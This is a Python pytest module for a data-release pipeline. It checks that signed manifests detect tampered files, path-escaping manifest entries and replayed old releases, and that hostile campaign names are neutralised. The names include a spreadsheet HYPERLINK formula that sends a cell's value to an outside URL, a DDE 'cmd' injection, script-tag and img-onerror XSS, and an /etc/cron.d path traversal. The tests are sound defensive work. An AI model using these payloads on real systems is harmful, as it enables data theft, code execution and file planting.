"""What somebody does to a release on its way: changes it, or hands out an old one as new; and what
somebody puts into a log so that it reaches whoever opens the release."""

import csv
import json
import shutil
from datetime import date, timedelta

import pyarrow.compute as pc
import pytest

from tests.pipelines.a_store import DAY, a_night, a_policy, few_tables, put_events, visitors
from weir.pipelines import share as share_module
from weir.pipelines import verify as verify_module
from weir.pipelines.disclose import disclose
from weir.pipelines.reconcile import reconcile
from weir.pipelines.recorded import catch_up
from weir.pipelines.replaced import keep_replaced
from weir.pipelines.share import share
from weir.pipelines.store import digest_of_file
from weir.pipelines.supersede import supersede
from weir.pipelines.verify import MANIFEST, SIGNATURE, verify
from weir.schemas.errors import ConfigError
from weir.schemas.release import FileNote, Release
from weir.transforms import sheet as sheet_module
from weir.transforms.keys import Keyring

NAMES = (
    '=HYPERLINK("https://example.org/?"&A1,"look")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "<script>fetch('https://example.org')</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/cron.d/weir",
)
AIM = "etc/cron.d"
"""Where the last of them leads from the place in which a release is made."""


def named_by_campaign(draft, entries, frame, write_table=share_module._write_table):
    """As a build would that gives a campaign a file of its own, of its name."""
    if entries[0].table == "campaigns":
        mine = frame.filter(pc.equal(frame["campaign"], NAMES[-1]))
        write_table(draft, [e.model_copy(update={"table": NAMES[-1]}) for e in entries], mine)
    return write_table(draft, entries, frame)


def hits_of(campaigns):
    return [
        hit
        for number, name in enumerate(campaigns)
        for hit in visitors(200, 1000 * number, campaign=name)
    ]


def share_of(night):
    return share(
        night.store, a_policy(), night.stamp, night.keyring("signing"), "acme-ads", [night.day],
        today=date(2008, 5, 1),
    ).path  # fmt: skip


def released(base, day=DAY, campaigns=("spring",)):
    night = a_night(base, hits_of(campaigns), day=day)
    disclose(night)
    return share_of(night)


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """Two releases of two dates, signed with one key, and names that somebody put into the log."""
    base = tmp_path_factory.mktemp("released")
    released(base, DAY - timedelta(days=1))
    released(base, DAY, ("spring", *NAMES))
    return base


@pytest.fixture
def copied(place, tmp_path):
    """(the older release, the newer one, the public key), to be tampered with."""
    home = shutil.copytree(place / "store" / "shared" / "acme-ads", tmp_path / "got")
    older, newer = sorted(home.iterdir())
    return older, newer, place / "keys" / "signing.pub.json"


class TestTampering:
    """One bit of any file; and, for one who can write all of them, a manifest that fits."""

    def test_a_changed_bit_of_any_file_is_named(self, copied):
        _, release, key = copied
        for path in sorted(release.iterdir()):
            kept = path.read_bytes()
            path.write_bytes(kept[:-1] + bytes([kept[-1] ^ 1]))
            found = verify(release, key)
            assert not found.ok, path.name
            assert path.name in {file.path for file in found.wrong}
            path.write_bytes(kept)
        assert verify(release, key).ok

    def test_if_nothing_were_compared_nobody_would_know(self, copied, monkeypatch):
        """Of any file; with signatures alone, of any but the manifest and its own."""
        _, release, key = copied
        monkeypatch.setattr(
            verify_module, "_checked", lambda _, path, __: verify_module.Checked(path, "intact")
        )
        for path in sorted(release.iterdir()):
            kept = path.read_bytes()
            path.write_bytes(kept[:-1] + bytes([kept[-1] ^ 1]))
            signed = path.name in (MANIFEST, SIGNATURE)
            assert verify(release, key).ok is not signed, path.name
            path.write_bytes(kept)
        monkeypatch.setattr(verify_module.signatures, "verify", lambda *_: None)
        manifest = release / MANIFEST
        manifest.write_text(manifest.read_text().replace("acme-ads", "acme-bad"))
        assert verify(release, key).ok

    def test_files_of_another_release_do_not_fit_its_manifest(self, copied):
        older, newer, key = copied
        shutil.copy(older / "traffic.parquet", newer / "traffic.parquet")
        assert [file.path for file in verify(newer, key).wrong] == ["traffic.parquet"]


class TestAFileElsewhere:
    """A manifest of somebody's own, signed with a key of theirs, names a file outside: whoever
    checks the release would be told that it is there."""

    @staticmethod
    def lure(place, older, newer):
        """The newer release without its first file, for which the older one's stands."""
        said = json.loads((newer / MANIFEST).read_text())
        first = said["files"][0]["path"]
        (newer / first).unlink()
        said["files"][0] |= {
            "path": f"../{older.name}/{first}", "sha256": digest_of_file(older / first)
        }  # fmt: skip
        (newer / MANIFEST).write_text(json.dumps(said))
        keyring = Keyring.open(place / "keys", "signing")
        (newer / SIGNATURE).write_bytes(keyring.sign((newer / MANIFEST).read_bytes()))

    def test_it_is_refused_as_no_manifest(self, place, copied):
        older, newer, key = copied
        self.lure(place, older, newer)
        with pytest.raises(ConfigError, match=MANIFEST):
            verify(newer, key)

    def test_if_a_name_could_be_a_path_it_would_be_intact(self, place, copied, monkeypatch):
        class AnyPath(FileNote):
            path: str

        class Trusting(Release):
            files: tuple[AnyPath, ...]

        older, newer, key = copied
        self.lure(place, older, newer)
        monkeypatch.setattr(verify_module, "Release", Trusting)
        assert verify(newer, key).ok


class TestReplay:
    """Last month's good numbers, in a directory with this month's name."""

    def test_an_old_release_says_of_when_it_is(self, copied):
        older, newer, key = copied
        shutil.rmtree(newer)
        told = verify(older.rename(newer), key).lines()
        assert f"for acme-ads (advertiser), {DAY - timedelta(days=1)}," in told[1]

    def test_its_manifest_cannot_be_given_another_date(self, copied):
        older, _, key = copied
        manifest = older / "manifest.json"
        was = str(DAY - timedelta(days=1))
        manifest.write_text(manifest.read_text().replace(was, str(DAY)))
        assert not verify(older, key).ok

    def test_if_signatures_were_not_checked_it_could(self, copied, monkeypatch):
        older, _, key = copied
        manifest = older / "manifest.json"
        was = str(DAY - timedelta(days=1))
        manifest.write_text(manifest.read_text().replace(was, str(DAY)))
        monkeypatch.setattr(verify_module.signatures, "verify", lambda *_: None)
        found = verify(older, key)
        assert found.release is not None
        assert found.release.dates == (DAY,)


@pytest.fixture(scope="module")
def thrice(tmp_path_factory):
    """Releases of one date, in order: its edition, what superseded it, and what superseded that."""
    base = tmp_path_factory.mktemp("thrice")
    with few_tables("traffic"):
        made = [released(base, campaigns=("spring", "summer"))]
        for campaigns in (("spring",), ("spring", "summer", "autumn")):
            night = a_night(base)
            keep_replaced(night)
            put_events(night, hits_of(campaigns))
            assert supersede(night).made
            made.append(share_of(night))
    return night, made


class TestReplayOfWhatWasSuperseded:
    """The numbers of before, signed, of the same dates: which of two releases holds?"""

    @staticmethod
    def editions(release):
        (note,) = verify(release).demand().editions
        return note

    def test_each_names_all_that_it_takes_the_place_of(self, thrice):
        first, second, third = map(self.editions, thrice[1])
        assert first.supersedes == ()
        assert second.supersedes == (first.sha256,)
        assert third.supersedes == (second.sha256, first.sha256)

    def test_who_checks_or_reads_it_is_told(self, thrice):
        first, _, third = thrice[1]
        before = self.editions(first).sha256
        assert before[:12] in "".join(verify(third).lines())
        assert before in verify(third).to_json()["superseding"][0]["supersedes"]
        assert f"Published again since: {DAY}." in (third / "README.md").read_text()
        assert f"{DAY} was published again" in (third / "report.html").read_text()

    def test_of_a_date_whose_edition_is_the_first_nothing_is_said(self, thrice):
        first = thrice[1][0]
        assert "supersedes" not in (first / "manifest.json").read_text()
        assert "again" not in (first / "README.md").read_text().split("## What is here")[0]
        assert "was published again" not in (first / "report.html").read_text()
        assert verify(first).to_json()["superseding"] == []

    def test_if_it_said_nothing_the_two_would_say_the_same(self, thrice, tmp_path, monkeypatch):
        night, made = thrice
        monkeypatch.setattr(share_module, "_superseded", lambda *_: ())
        again = share_of(a_night(shutil.copytree(night.config.base, tmp_path / "copy")))
        assert verify(again).lines()[1:2] == verify(made[0]).lines()[1:2]
        assert len(verify(again).lines()) == len(verify(made[0]).lines())

    def test_the_check_of_the_ledger_lists_the_old_ones(self, thrice):
        night, made = thrice
        catch_up(night)
        found = reconcile(night.config)
        assert found.faults == ()
        assert found.outdated == {f"acme-ads/{one.name}": (str(DAY),) for one in made[:2]}


class TestMaliciousNames:
    """Campaigns that are HTML, a formula, a path: somebody else's tag may send any name."""

    @staticmethod
    def cells(release):
        with (release / "campaigns.csv").open(encoding="utf-8-sig", newline="") as file:
            return [cell for row in csv.reader(file) for cell in row]

    def test_no_cell_is_a_formula(self, copied):
        _, release, _ = copied
        cells = self.cells(release)
        assert any("HYPERLINK" in cell for cell in cells), "or there is nothing to see"
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]

    def test_if_cells_were_not_guarded_one_would_be(self, tmp_path, monkeypatch):
        monkeypatch.setattr(sheet_module, "safe_text", lambda text: text)
        cells = self.cells(released(tmp_path, campaigns=("spring", *NAMES)))
        assert [cell for cell in cells if cell.startswith("=HYPERLINK")]

    def test_the_report_shows_them_as_text(self, copied):
        _, release, _ = copied
        page = (release / "report.html").read_text("utf-8").lower()
        assert "&lt;script&gt;fetch" in page, "or there is nothing to see"
        assert "<script" not in page
        assert "<img" not in page

    def test_no_file_is_named_by_them(self, copied):
        older, newer, _ = copied
        assert {p.name for p in newer.iterdir()} == {p.name for p in older.iterdir()}

    def test_if_a_campaign_named_a_file_one_would_lie_elsewhere(self, place, tmp_path, monkeypatch):
        base = shutil.copytree(place, tmp_path / "copy")
        aim = base / AIM
        aim.mkdir(parents=True)
        monkeypatch.setattr(share_module, "_write_table", named_by_campaign)
        share_of(a_night(base))
        assert {path.name for path in aim.iterdir()} == {"weir.parquet", "weir.csv"}
